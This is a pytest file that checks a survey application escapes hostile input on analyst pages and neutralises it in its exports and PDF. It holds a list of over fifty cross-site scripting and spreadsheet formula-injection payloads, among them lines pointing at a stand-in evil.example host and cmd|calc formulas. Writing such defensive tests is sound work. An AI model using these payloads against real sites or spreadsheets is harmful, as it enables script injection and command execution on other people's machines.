"""Hostile text stored as answers, registry names and summary edits comes out escaped
everywhere: the analysts' pages, the exports and the PDF."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from surveyapp import operations
from surveyapp.demo import khartoum_responses
from surveyapp.exports import export_round
from surveyapp.extensions import db
from surveyapp.models import Organisation, Response
from tests.pages import log_in

#: classic cross-site scripting and spreadsheet-formula payloads
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>x</button></form>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<div style="background:url(javascript:alert(1))">',
    "<table background=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "<img src=http://127.0.0.1:9/leak>",
    "<img src=file:///etc/passwd>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "{{ 7*7 }}<b>bold</b>",
    "{% raw %}<script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: text answers of the ISCM questionnaire that show up in the summary and the exports
TEXT_KEYS = [
    "founding_document",
    "knowledge_management",
    "partnership_notes",
    "member_value_notes",
    "national_examples",
    "interregional_contribution",
]


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 50


@pytest.fixture
def hostile_round(app, create_user):
    """A submitted Khartoum round whose texts, names and edits are all hostile."""
    with app.app_context():
        survey_round = operations.current_round()
        egypt = db.session.scalar(select(Organisation).filter_by(code="EGY"))
        egypt.names = {**egypt.names, "en": "Egypt " + PAYLOADS[1]}
        for demo in khartoum_responses():
            organisation = db.session.scalar(select(Organisation).filter_by(code=demo.organisation))
            answers = dict(demo.answers)
            if demo.organisation == "khartoum-process":
                for index, key in enumerate(TEXT_KEYS):
                    answers[key] = " | ".join(PAYLOADS[index :: len(TEXT_KEYS)])
            invitation, _ = operations.invite(survey_round, organisation, None, "test")
            operations.save_answers(invitation.response, 0, answers, actor="t", channel="t")
            operations.submit_response(invitation.response, actor="t", channel="t")
        iscm = db.session.scalar(select(Organisation).filter_by(code="khartoum-process"))
        operations.save_summary_edit(
            survey_round, iscm, "partnerships", "\n\n".join(PAYLOADS), "x", language="en", actor="t"
        )
        db.session.commit()
    return app


def unescaped(html: str) -> list[str]:
    """Payloads whose markup appears as markup in ``html`` (a ``<`` left as it was)."""
    return [p for p in PAYLOADS if "<" in p and p in html]


def test_analyst_pages_show_hostile_text_escaped(hostile_round, client, create_user):
    email, password = create_user("analyst")
    log_in(client, email, password)
    with hostile_round.app_context():
        ids = [r.id for r in db.session.scalars(select(Response))]
    pages = [
        "/analyst/",
        "/analyst/coverage",
        "/analyst/summaries",
        "/analyst/summaries/khartoum-process",
        "/analyst/invitations",
    ]
    pages += [f"/analyst/responses/{i}" for i in ids]
    for path in pages:
        reply = client.get(path)
        assert reply.status_code == 200, path
        html = reply.get_data(as_text=True)
        assert unescaped(html) == [], path
        assert "<script>alert(1)</script>" not in html


def test_exports_neutralise_formulas_and_keep_text(hostile_round):
    with hostile_round.app_context():
        survey_round = operations.current_round()
        xlsx = io.BytesIO()
        export_round(survey_round, xlsx, file_format="xlsx")
        archive = io.BytesIO()
        export_round(survey_round, archive, file_format="csv")
    workbook = load_workbook(io.BytesIO(xlsx.getvalue()), read_only=True)
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any("<script>alert(1)</script>" in c for c in cells)
    with zipfile.ZipFile(io.BytesIO(archive.getvalue())) as files:
        for name in files.namelist():
            for row in csv.reader(io.StringIO(files.read(name).decode("utf-8-sig"))):
                assert not [c for c in row if c.startswith(FORMULA_STARTS)], name


def test_the_summary_prints_hostile_text_as_text(hostile_round):
    from reports import render_iscm_html
    from surveyapp.dossiers import build_iscm_dossier, report_round, summary_edits
    from surveyapp.pdfs import summary_pdf

    with hostile_round.app_context():
        edits = {
            k: e.text for k, e in summary_edits(report_round(), "khartoum-process", "en").items()
        }
        html = render_iscm_html(build_iscm_dossier("khartoum-process"), edits)
        pdf, _key = summary_pdf("khartoum-process")
    assert unescaped(html) == []
    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages).split())
    assert "<script>alert(1)</script>" in text
